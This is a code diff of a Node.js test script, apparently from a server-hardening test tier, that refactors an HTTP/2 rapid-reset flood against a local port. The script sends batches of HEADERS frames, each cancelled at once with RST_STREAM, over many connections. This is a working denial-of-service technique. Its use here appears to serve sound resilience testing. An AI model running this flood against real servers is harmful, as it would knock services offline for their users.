@@ -7,27 +7,18 @@
  * 3 s of the last write).
  */
 import net from "node:net";
+// The frames come from lib/h2_frames.ts as built: the hardening tier builds dist/ before it runs.
+import {
+  getHeaderBlock,
+  H2_PREFACE,
+  headersFrame,
+  rstStreamFrame,
+  settingsFrame,
+} from "../../../dist/lib/h2_frames.js";
 
 const [port, connections, pairs] = process.argv.slice(2).map(Number);
-const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");
-const PATH = Buffer.from("/slow?delay=2000", "latin1");
-
-function frame(type, flags, stream, payload) {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head[3] = type;
-  head[4] = flags;
-  head.writeUInt32BE(stream, 5);
-  return Buffer.concat([head, payload]);
-}
-
-/** GET PATH with END_STREAM (HPACK: :method GET, :scheme http, literal :path and :authority). */
-const BLOCK = Buffer.concat([
-  Buffer.from([0x82, 0x86, 0x04, PATH.length]),
-  PATH,
-  Buffer.from([0x01, 1, 0x61]),
-]);
-const CANCEL = Buffer.from([0, 0, 0, 8]);
+/** GET /slow?delay=2000 with END_STREAM. */
+const BLOCK = getHeaderBlock("/slow?delay=2000", "a");
 
 async function attack() {
   const socket = net.connect(port, "127.0.0.1");
@@ -35,13 +26,13 @@ async function attack() {
   socket.resume();
   const closed = new Promise((resolve) => socket.once("close", () => resolve(true)));
   await new Promise((resolve) => socket.once("connect", resolve));
-  socket.write(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))]));
+  socket.write(Buffer.concat([H2_PREFACE, settingsFrame([])]));
   let sent = 0;
   while (sent < pairs && !socket.destroyed) {
     const batch = [];
     for (let i = 0; i < 50 && sent < pairs; i++, sent++) {
       const id = 2 * sent + 1;
-      batch.push(frame(1, 0x5, id, BLOCK), frame(3, 0, id, CANCEL));
+      batch.push(headersFrame(id, BLOCK), rstStreamFrame(id));
     }
     socket.write(Buffer.concat(batch));
     await new Promise((resolve) => setImmediate(resolve));
